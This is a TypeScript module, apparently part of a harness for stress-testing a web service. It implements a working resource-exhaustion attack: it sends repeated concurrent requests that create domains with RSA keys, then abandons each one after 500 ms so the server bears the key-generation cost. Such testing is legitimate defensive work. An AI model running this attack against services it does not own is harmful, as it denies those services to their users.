import { setTimeout as delay } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { post, repeat } from './requests.ts'

const AT_ONCE = 64
const PATIENCE_MS = 500

/** Domains with RSA keys, a hundred milliseconds of a core each; whoever asks does not wait for most of them. */
export const attack: Attack = {
  name: 'RSA keys',
  async run({ url, token }, signal) {
    let count = 0
    await repeat(signal, AT_ONCE, async () => {
      const leaving = new AbortController()
      const leave = AbortSignal.any([signal, leaving.signal])
      const name = `d${process.pid}-${count++}.attacker.dev`
      const asked = post(`${url}/domains`, { token, signal: leave }, [JSON.stringify({ name })])
      await Promise.race([asked, delay(PATIENCE_MS)])
      leaving.abort()
    })
  },
}
